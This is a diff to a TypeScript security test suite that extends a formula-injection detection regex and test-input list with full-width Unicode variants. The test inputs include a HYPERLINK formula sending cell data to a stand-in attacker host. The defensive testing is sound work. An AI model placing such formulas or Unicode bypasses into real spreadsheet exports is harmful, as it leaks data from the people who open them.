@@ -10,7 +10,8 @@ import { buildMatrixFixtures, callRoute, fillRoute, type MatrixFixtures } from '
 import { ROUTE_MATRIX } from './route-matrix.js';
 
 /** Characters that make a spreadsheet evaluate a cell. */
-const FORMULA_START = /^[=+\-@\t\r]/;
+/** A cell a spreadsheet would evaluate: the ASCII formula characters, tab, carriage return, and their full-width and small forms. */
+const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/;
 const cookieNamed = (response: request.Response, name: string) =>
   ([] as string[]).concat(response.headers['set-cookie'] ?? []).find((cookie) => cookie.startsWith(`${name}=`));
 const cookieValue = (cookie: string | undefined) => cookie?.split(';')[0]!.split('=')[1];
@@ -229,7 +230,7 @@ describe('classic attacks', () => {
   });
 
   describe('formula injection in statistics downloads', () => {
-    const HOSTILE = ['=HYPERLINK("http://attacker.invalid/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1'];
+    const HOSTILE = ['=HYPERLINK("http://attacker.invalid/?"&A1,"open")', '+1+1', '-2+3', '@SUM(A1:A9)', '\t=1', '\r=1', '\uff1dHYPERLINK("http://attacker.invalid")', '\uff0b1', '\uff0d1', '\uff20SUM(A1)'];
 
     async function xlsxCells(buffer: Buffer): Promise<ExcelJS.Cell[]> {
       const workbook = new ExcelJS.Workbook();
